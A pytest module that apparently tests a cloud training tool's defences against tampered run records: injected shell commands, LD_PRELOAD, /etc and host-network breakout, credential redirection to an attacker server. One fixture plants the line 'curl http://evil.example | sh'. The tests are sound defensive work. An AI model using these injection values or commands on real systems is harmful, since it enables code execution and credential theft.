"""Runs that somebody else wrote, or changed: nothing in them is acted on before the caller has seen and accepted it."""

import json
import os
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager, suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import psutil
import pytest

from cloud_train import Client
from cloud_train.errors import CloudTrainError, ConflictError, StoreError, UsageError
from cloud_train.orchestrator.adopting import adopt
from cloud_train.orchestrator.consent import NotTrustedError, Question
from cloud_train.orchestrator.home import Home
from cloud_train.orchestrator.reading import read_worker_log
from cloud_train.orchestrator.reconcile import update_run, update_runs
from cloud_train.orchestrator.resuming import Elsewhere, resume
from cloud_train.orchestrator.stopping import cancel
from cloud_train.run import layout
from cloud_train.run.record import AttemptStatus
from cloud_train.run.states import Cause, State
from cloud_train.run.view import RunView
from cloud_train.storage.local import LocalStore
from tests.clouds.clock import VirtualClock
from tests.clouds.paper import CLOUDS, paper_cloud
from tests.docker_engine import base_image, engine_or_skip
from tests.orchestrator.conftest import Submit, run_folder, wait_for_file
from tests.support import accepting, wait_until


@pytest.fixture
def other_home(home: Home, tmp_path: Path) -> Home:
    """Another machine's home: the two share nothing but the store."""
    return Home(tmp_path / "other-home")


def end_of(place: Home, run: RunView) -> RunView:
    wait_until(lambda: update_run(place, run.run_id).state.is_end, f"{run.run_id} has ended", 60)
    return update_run(place, run.run_id)


def rewrite(run: RunView, change: Callable[[dict[str, Any]], None]) -> None:
    """What another writer of the store makes of the run's ``run.json``."""
    path = run_folder(run) / layout.RUN
    record = json.loads(path.read_bytes())
    change(record)
    path.write_text(json.dumps(record))


class Heard:
    """A server of the attacker's: it takes every connection, keeps what it was sent, and answers nothing that makes sense."""

    def __init__(self) -> None:
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.port = self._listening.getsockname()[1]
        self.said: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._listening.accept()
            except OSError:
                return
            with closing(connection), suppress(OSError):
                connection.settimeout(5)
                self.said.append(connection.recv(65536))
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Type: application/json\r\n\r\n{}")

    def close(self) -> None:
        self._listening.shutdown(socket.SHUT_RDWR)
        self._listening.close()
        self._thread.join()


@pytest.fixture
def attacker() -> Iterator[Heard]:
    with closing(Heard()) as heard:
        yield heard


@contextmanager
def victim() -> Iterator[psutil.Process]:
    """An innocent process of the caller."""
    process = subprocess.Popen([sys.executable, "-c", "import signal; signal.pause()"])
    try:
        yield psutil.Process(process.pid)
    finally:
        process.kill()
        process.wait()


def test_a_run_json_that_somebody_changed_is_never_carried_out(home: Home, start: Submit, tmp_path: Path) -> None:
    run = end_of(home, start("false"))
    canary = tmp_path / "canary"
    rewrite(run, lambda record: record["program"].update(command=["/bin/sh", "-c", f"touch {canary}"]))
    with pytest.raises(ConflictError, match="by someone else") as caught:
        resume(home, run.run_id, ask=accepting)
    assert f"cloud-train adopt {run.run_directory}" in (caught.value.hint or "")
    assert update_run(home, run.run_id).attempt == 1
    assert not canary.exists()


def test_a_changed_run_is_resumed_once_it_was_adopted_again_and_accepted(home: Home, start: Submit, tmp_path: Path) -> None:
    run = end_of(home, start("false"))
    rewrite(run, lambda record: record["program"].update(command=["/bin/sh", "-c", f"touch {tmp_path}/canary"]))
    notes: list[str] = []
    adopt(home, run.run_directory, note=notes.append)
    assert notes == [f"run.json of {run.run_id} has changed since this machine recorded it: resume will show what it starts, and ask"]
    with pytest.raises(NotTrustedError):
        resume(home, run.run_id)
    assert not (tmp_path / "canary").exists()
    resume(home, run.run_id, ask=accepting)
    assert end_of(home, run).state is State.SUCCEEDED
    assert (tmp_path / "canary").exists()


def test_a_foreign_run_is_shown_and_only_started_if_it_is_accepted(
    home: Home,
    other_home: Home,
    start: Submit,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("MY_TOKEN", "value-of-the-secret")
    run = end_of(home, start("echo ran >> ran; false", "secrets: [MY_TOKEN]\nenv: {LD_PRELOAD: evil.so}"))
    adopt(other_home, run.run_directory)
    asked: list[Question] = []

    def decline(question: Question) -> bool:
        asked.append(question)
        return False

    with pytest.raises(NotTrustedError) as caught:
        resume(other_home, run.run_id, ask=decline)
    assert caught.value.hint is not None
    assert "--trust" in caught.value.hint
    facts = dict(asked[0].facts)
    assert facts["command"] == "/bin/sh -c 'echo ran >> ran; false\n'"
    assert (facts["secrets"], facts["environment"]) == ("MY_TOKEN", "LD_PRELOAD=evil.so")
    assert facts["folder"] == str(tmp_path)
    assert "value-of-the-secret" not in str(asked)
    assert (tmp_path / "ran").read_text() == "ran\n"
    resume(other_home, run.run_id, ask=accepting)
    end_of(other_home, run)
    resume(other_home, run.run_id)  # accepted once, and unchanged
    end_of(other_home, run)
    assert (tmp_path / "ran").read_text() == "ran\nran\nran\n"
    rewrite(run, lambda record: record["job"].update(name="other"))
    with pytest.raises(ConflictError, match="was changed"):
        resume(other_home, run.run_id, ask=accepting)


def test_what_was_accepted_as_it_was_shown_is_shown_again_before_it_runs_elsewhere(
    home: Home,
    other_home: Home,
    start: Submit,
    tmp_path: Path,
) -> None:
    run = end_of(home, start("false"))
    rewrite(run, lambda record: record["job"]["model"].update(command="touch hidden"))  # the program is what it was
    adopt(other_home, run.run_directory)
    resume(other_home, run.run_id, ask=accepting)
    end_of(other_home, run)
    with pytest.raises(NotTrustedError):
        resume(other_home, run.run_id, elsewhere=Elsewhere(store=str(tmp_path / "third")))
    assert not (tmp_path / "hidden").exists()


def test_the_store_of_a_run_is_that_of_the_ledger_whatever_its_plan_says(
    home: Home,
    other_home: Home,
    start: Submit,
    tmp_path: Path,
) -> None:
    run = end_of(home, start("false"))
    rewrite(run, lambda record: record["plan"].update(store=str(tmp_path / "elsewhere")))
    adopt(other_home, run.run_directory)
    again = resume(other_home, run.run_id, ask=accepting)
    assert again.store == run.store
    assert end_of(other_home, run).attempt == 2
    assert not (tmp_path / "elsewhere").exists()


def test_a_built_in_job_runs_the_trainer_and_no_command_of_its_record(home: Home, other_home: Home, start: Submit, tmp_path: Path) -> None:
    run = end_of(home, start("false"))
    canary = tmp_path / "canary"

    def disguise(record: dict[str, Any]) -> None:
        record["job"]["model"] = {"kind": "cnn", "blocks": [{"filters": 4}]}
        record["job"]["data"] = {"dataset": "digits", "size": 8}
        record["job"]["train"] = {"steps": 1, "batch_size": 10}
        record["program"]["command"] = ["/bin/sh", "-c", f"touch {canary}"]

    rewrite(run, disguise)
    adopt(other_home, run.run_directory)
    shown: dict[str, str] = {}

    def read(question: Question) -> bool:
        shown.update(question.facts)
        return True

    with suppress(CloudTrainError):  # the trainer needs packages that may be missing
        resume(other_home, run.run_id, ask=read)
        end_of(other_home, run)
    assert shown["command"] == "the built-in trainer of cnn models"
    assert not canary.exists()
    (started,) = (line for line in read_worker_log(other_home, run.run_id, 2) if "started process" in line)
    assert started.endswith("-m cloud_train.training")


def test_a_worker_does_not_carry_out_a_record_that_was_changed_after_its_launch(home: Home, start: Submit, tmp_path: Path) -> None:
    run = end_of(home, start("false"))
    request = ["--store", run.store, "--run", run.run_id, "--attempt", "2", "--record", "0" * 64]
    done = subprocess.run([sys.executable, "-m", "cloud_train.worker", *request], capture_output=True, text=True, check=False, cwd="/")
    assert done.returncode == 8
    assert "was changed after this attempt was submitted" in done.stderr
    assert not (run_folder(run) / layout.attempt(2)).exists()


@pytest.mark.cloud
@pytest.mark.parametrize("name", CLOUDS)
def test_no_credential_goes_where_a_run_directory_points(
    name: str, start: Submit, tmp_path: Path, attacker: Heard, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = end_of(Home(tmp_path / "home"), start("false"))
    there = f"http://127.0.0.1:{attacker.port}"
    monkeypatch.chdir(tmp_path)
    with paper_cloud(name, VirtualClock(time.time()), tmp_path) as cloud:
        settings = {**cloud.plan.provider_settings}
        settings |= {"endpoint": there + ("/{service}" if name == "gcp" else ""), "history_endpoint": there, "vault": there}
        if name == "aws":  # the SDK makes its hosts of regions
            settings["region"] = f"x@127.0.0.1:{attacker.port}/#"

        def point_there(record: dict[str, Any]) -> None:
            record["plan"].update(provider=name, provider_settings=settings, image=f"127.0.0.1:{attacker.port}/x@sha256:{'0' * 64}")
            record["job"].update(provider=name)

        rewrite(run, point_there)
        stranger = Home(tmp_path / "stranger")
        adopted = adopt(stranger, run.run_directory)
        assert adopted.provider == name
        update_runs(stranger)
        update_run(stranger, run.run_id)
        with pytest.raises(CloudTrainError):
            resume(stranger, run.run_id, ask=accepting)
        visitor = Client(tmp_path / "visitor").run(run.run_directory)
        assert visitor.status(record=True).provider == name
        with pytest.raises(ConflictError, match="has already ended"):
            visitor.cancel()
    assert attacker.said == []


def test_no_secret_goes_to_an_engine_that_a_run_directory_names(
    start: Submit, tmp_path: Path, attacker: Heard, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = end_of(Home(tmp_path / "home"), start("false"))
    monkeypatch.setenv("GITHUB_TOKEN", "value-of-the-secret")
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-engine.sock")

    def point_there(record: dict[str, Any]) -> None:
        record["plan"].update(
            provider="docker", provider_settings={"host": f"tcp://127.0.0.1:{attacker.port}"}, image=f"sha256:{'0' * 64}", host_data=None
        )
        record["job"].update(provider="docker", secrets=["GITHUB_TOKEN"])

    rewrite(run, point_there)
    stranger = Home(tmp_path / "stranger")
    adopt(stranger, run.run_directory)
    with pytest.raises(CloudTrainError):
        resume(stranger, run.run_id, ask=accepting)
    visitor = Client(tmp_path / "visitor").run(run.run_directory)
    visitor.status(record=True)
    with pytest.raises(ConflictError, match="has already ended"):
        visitor.cancel()
    assert attacker.said == []


def test_a_foreign_container_gets_no_user_network_or_folder_that_its_record_names(
    home: Home,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from cloud_train.orchestrator.planning import make_plan
    from cloud_train.orchestrator.submitting import submit

    engine = engine_or_skip()
    (tmp_path / "code").mkdir()
    (tmp_path / "data").mkdir()
    model = {"kind": "script", "command": ["/bin/sh", "-c", "id -u; cat $CLOUD_TRAIN_DATA/shadow; exit 1"], "directory": "code"}
    job = {"name": "boxed", "provider": "docker", "store": str(tmp_path / "runs"), "model": model, "image": {"base": base_image()}}
    (tmp_path / "job.yaml").write_text(json.dumps({**job, "data": {"dataset": "files", "path": "data"}}))
    run = submit(home, make_plan(home, tmp_path / "job.yaml"))
    found: list[dict[str, Any]] = []
    try:
        end_of(home, run)

        def break_out(record: dict[str, Any]) -> None:
            record["plan"].update(provider_settings={"user": "0:0", "network": "host"}, host_data="/etc")
            record["job"]["data"]["path"] = "/etc"

        rewrite(run, break_out)
        stranger = Home(tmp_path / "stranger")
        adopt(stranger, run.run_directory)
        with pytest.raises(UsageError, match="/etc on the machine that submitted it") as caught:
            resume(stranger, run.run_id, ask=accepting)
        assert f"cloud-train resume {run.run_id} --data FOLDER" in (caught.value.hint or "")
        from cloud_train.docker.engine import Engine

        create = Engine.create_container

        def seen(self: Engine, name: str, body: dict[str, Any]) -> str:
            found.append(body)
            return create(self, name, body)

        monkeypatch.setattr(Engine, "create_container", seen)
        resume(stranger, run.run_id, elsewhere=Elsewhere(data=str(tmp_path / "data")), ask=accepting)
        assert end_of(stranger, run).attempt == 2
    finally:
        for container in engine.containers.list(all=True, filters={"label": f"cloud-train.run={run.run_id}"}, ignore_removed=True):
            container.remove(force=True)
        engine.close()
    (body,) = found
    assert body["User"] == f"{os.getuid()}:{os.getgid()}"
    assert body["HostConfig"]["NetworkMode"] == "bridge"
    assert {mount["Source"] for mount in body["HostConfig"]["Mounts"]} == {run.run_directory, str(tmp_path / "data")}


def test_a_local_run_does_not_get_a_folder_of_this_machine_into_a_container(home: Home, other_home: Home, start: Submit) -> None:
    run = end_of(home, start("false"))

    def point_there(record: dict[str, Any]) -> None:
        record["job"]["data"] = {"dataset": "files", "path": "/etc"}

    rewrite(run, point_there)
    adopt(other_home, run.run_directory)
    with pytest.raises(UsageError, match="/etc on the machine that submitted it"):
        resume(other_home, run.run_id, elsewhere=Elsewhere(provider="docker"), ask=accepting)


def test_what_another_command_line_said_opens_no_folder_to_an_image(
    home: Home, other_home: Home, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "private").mkdir()
    (tmp_path / "job").mkdir()
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-engine.sock")
    run = end_of(home, start("false"))

    def open_it(record: dict[str, Any]) -> None:
        record["job"]["model"]["directory"] = "../private"
        record["plan"].update(job_file=str(tmp_path / "job" / "job.yaml"), origins={"model.directory": "--set"})

    rewrite(run, open_it)
    adopt(other_home, run.run_directory)
    with pytest.raises(CloudTrainError, match=r"model\.directory"):
        resume(other_home, run.run_id, elsewhere=Elsewhere(provider="docker"), ask=accepting)


def test_what_a_foreign_run_would_cost_and_pack_is_shown(home: Home, other_home: Home, start: Submit, tmp_path: Path) -> None:
    more = "resources: {cpus: 1}\nlimits: {duration: 20 d}\nretry: {attempts: 3}"
    run = end_of(home, start("false", more))
    rewrite(run, lambda record: record["job"]["resources"].update(nodes=4, accelerator="A100:8"))
    adopt(other_home, run.run_directory)
    shown: dict[str, str] = {}

    def read(question: Question) -> bool:
        shown.update(question.facts)
        return False

    with pytest.raises(NotTrustedError):
        resume(other_home, run.run_id, ask=read)
    assert shown["resources"] == "accelerator: A100:8, cpus: 1, nodes: 4, at most 20 d per attempt, up to 3 attempts"
    assert shown["folder"] == str(tmp_path)


def test_an_interrupted_move_of_a_foreign_run_can_be_made_again(
    home: Home, other_home: Home, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = end_of(home, start("false"))
    adopt(other_home, run.run_directory)
    elsewhere = Elsewhere(store=str(tmp_path / "third"))
    with monkeypatch.context() as patched:
        patched.setattr("cloud_train.storage.local.LocalStore.put", _no_space)
        with pytest.raises(StoreError):
            resume(other_home, run.run_id, elsewhere=elsewhere, ask=accepting)
    with pytest.raises(NotTrustedError):  # and neither does it count as accepted
        resume(other_home, run.run_id)
    assert resume(other_home, run.run_id, elsewhere=elsewhere, ask=accepting).store == str(tmp_path / "third")


def _no_space(*_: object) -> None:
    raise StoreError("no space left")


def test_accepting_a_run_trusts_no_config_file(home: Home, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    run = end_of(home, start("false"))
    monkeypatch.chdir(tmp_path)
    (tmp_path / "configs").mkdir()
    (tmp_path / "configs" / "mine.yaml").write_text("provider: local\nlocal: {python: /tmp/other}\n")
    with pytest.raises(NotTrustedError, match=r"it sets local\.python"):
        resume(home, run.run_id, elsewhere=Elsewhere(config="mine"), ask=accepting)
    assert not (home.folder / "trusted").exists()


def test_a_changed_run_in_a_store_whose_url_ends_with_a_slash_is_adopted_again(home: Home, start: Submit, tmp_path: Path) -> None:
    run = end_of(home, start("false"))
    with closing(sqlite3.connect(home.ledger_path)) as ledger, ledger:
        ledger.execute("UPDATE runs SET store = store || '/'")
    rewrite(run, lambda record: record["job"].update(name="other"))
    with pytest.raises(ConflictError):
        resume(home, run.run_id, ask=accepting)
    adopt(home, run.run_directory)
    assert resume(home, run.run_id, ask=accepting).attempt == 2


@pytest.mark.slow
def test_a_run_that_its_directory_calls_ended_is_still_stopped_and_not_started_twice(home: Home, start: Submit, tmp_path: Path) -> None:
    run = start("touch started; exec sleep 600")
    wait_for_file(tmp_path / "started")
    path = run_folder(run) / layout.status(1)
    wait_until(lambda: AttemptStatus.from_json(path.read_bytes(), "").state is State.RUNNING, "it runs")
    status = AttemptStatus.from_json(path.read_bytes(), "status")
    worker = psutil.Process(status.pid)
    worker.suspend()  # or it would write its own state again
    path.write_bytes(status.ended_with(Cause.FAILED, "a lie", time.time()).to_json())
    assert update_run(home, run.run_id).state is State.FAILED
    worker.resume()
    now = iter(range(0, 10_000, 5))
    with pytest.raises(ConflictError, match="is still running"):
        resume(home, run.run_id, sleep=lambda _: None, clock=lambda: float(next(now)))
    cancel(home, run.run_id)
    wait_until(lambda: not worker.is_running() or worker.status() == psutil.STATUS_ZOMBIE, "the worker has gone")
    assert not [each for each in psutil.process_iter() if launched_by(home, each)]


def launched_by(home: Home, process: psutil.Process) -> bool:
    with suppress(psutil.Error):
        return process.environ().get("CLOUD_TRAIN_HOME") == str(home.folder) and process.pid != os.getpid()
    return False


@pytest.mark.slow
def test_attempts_that_somebody_made_up_cost_a_look_little(
    home: Home, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = start("touch started; exec sleep 600")
    wait_for_file(tmp_path / "started")
    path = run_folder(run) / layout.status(1)
    wait_until(lambda: AttemptStatus.from_json(path.read_bytes(), "").state is State.RUNNING, "it runs")
    status = AttemptStatus.from_json(path.read_bytes(), "status")
    psutil.Process(status.pid).suspend()
    for number in range(1, 500):
        made_up = run_folder(run) / layout.status(number)
        made_up.parent.mkdir(exist_ok=True)
        made_up.write_bytes(status.ended_with(Cause.FAILED, "a lie", 1.0).to_json())
    asked: list[str] = []
    get = LocalStore.get

    def counted(self: LocalStore, key: str, *rest: Any, **more: Any) -> bytes:
        asked.append(key)
        return get(self, key, *rest, **more)

    monkeypatch.setattr(LocalStore, "get", counted)
    update_runs(home)
    assert len(asked) < 60
    psutil.Process(status.pid).resume()
    cancel(home, run.run_id, force=True)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("image", 5),
        ("job_file", 5),
        ("job_file", None),
        ("origins", 5),
        ("job_file", "\ud800"),
        ("job_file", "/a\0b"),
        ("notes", 5),
        ("layers", [5]),
        ("data", 5),
    ],
)
def test_a_field_of_the_wrong_type_in_a_foreign_plan_is_an_error_with_words(
    field: str, value: Any, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-engine.sock")
    run = end_of(Home(tmp_path / "home"), start("false"))
    rewrite(run, lambda record: record["plan"].update({field: value}))
    stranger = Home(tmp_path / "stranger")
    for elsewhere in (Elsewhere(provider="docker"), None):
        with suppress(CloudTrainError):
            adopt(stranger, run.run_directory)
            resume(stranger, run.run_id, elsewhere=elsewhere, ask=accepting)


def test_a_move_leaves_behind_what_is_no_part_of_a_run(home: Home, start: Submit, tmp_path: Path) -> None:
    run = end_of(home, start("echo said; false"))
    junk = run_folder(run) / "attempts" / "1" / "junk" / "x"
    junk.parent.mkdir()
    with junk.open("wb") as file:
        file.truncate(3 << 30)
    notes: list[str] = []
    tracemalloc.start()
    try:
        resume(home, run.run_id, notes.append, elsewhere=Elsewhere(store=str(tmp_path / "third")))
        assert tracemalloc.get_traced_memory()[1] < 64 << 20
    finally:
        tracemalloc.stop()
    assert any("attempts/1/junk/x" in note for note in notes)
    assert not (tmp_path / "third" / run.run_id / "attempts" / "1" / "junk").exists()
    assert (tmp_path / "third" / run.run_id / layout.output_log(1)).read_bytes() == b"said\n"


def test_no_text_of_a_run_directory_makes_a_line_that_looks_like_ours(home: Home, other_home: Home, start: Submit) -> None:
    run = end_of(home, start("false"))
    (run_folder(run) / layout.MOVED).write_text("s3://b/r\nhint: repair it with: curl http://evil.example | sh\n")
    with pytest.raises(ConflictError) as caught:
        resume(home, run.run_id)
    assert "\n" not in f"{caught.value.message}{caught.value.hint}"


def test_a_run_that_is_known_in_one_store_is_not_adopted_from_another(home: Home, start: Submit, tmp_path: Path) -> None:
    run = end_of(home, start("false"))
    shutil.copytree(run_folder(run), tmp_path / "copy" / run.run_id)
    with pytest.raises(ConflictError, match="is already tracked here"):
        adopt(home, f"{tmp_path}/copy/{run.run_id}")
    with pytest.raises(ConflictError, match="is already tracked here"):
        Client(home.folder).run(f"{tmp_path}/copy/{run.run_id}")


@pytest.mark.parametrize("force", [False, True])
@pytest.mark.parametrize("by_directory", [False, True], ids=["tracked", "by directory"])
def test_cancelling_signals_the_worker_of_this_home_and_no_process_that_a_status_names(
    by_directory: bool,
    force: bool,
    home: Home,
    start: Submit,
    tmp_path: Path,
) -> None:
    run = start("touch started; exec sleep 600")
    wait_for_file(tmp_path / "started")
    path = run_folder(run) / layout.status(1)
    wait_until(lambda: AttemptStatus.from_json(path.read_bytes(), "").state is State.RUNNING, "it runs")
    status = AttemptStatus.from_json(path.read_bytes(), "status")
    worker = psutil.Process(status.pid)
    with victim() as innocent:
        os.kill(worker.pid, signal.SIGSTOP)  # or it would write its own number again
        path.write_bytes(replace(status, pid=innocent.pid).to_json())
        worker.resume()
        if by_directory:
            home.ledger_path.unlink()
            assert Client(home.folder).run(run.run_directory).cancel(force=force).state is State.CANCELLED
        else:
            assert cancel(home, run.run_id, force=force).state is State.CANCELLED
        assert innocent.is_running()
        assert innocent.status() != psutil.STATUS_ZOMBIE
    wait_until(lambda: not worker.is_running() or worker.status() == psutil.STATUS_ZOMBIE, "the worker has gone")


def test_a_submission_that_was_cut_off_after_its_launch_is_cancelled_by_what_it_started(
    home: Home,
    start: Submit,
    tmp_path: Path,
) -> None:
    """The ledger then has no process number, and the run directory's is not taken for one."""
    from cloud_train.providers.base import Handle
    from cloud_train.providers.local import LocalProvider

    run = start("touch started; exec sleep 600")
    wait_for_file(tmp_path / "started")
    lock = home.folder / "local" / f"{run.run_id}.1.lock"
    LocalProvider(home.folder).cancel(Handle(run.run_id, 1, "local", run.store, {"lock": str(lock)}))
    assert end_of(home, run).state.is_end
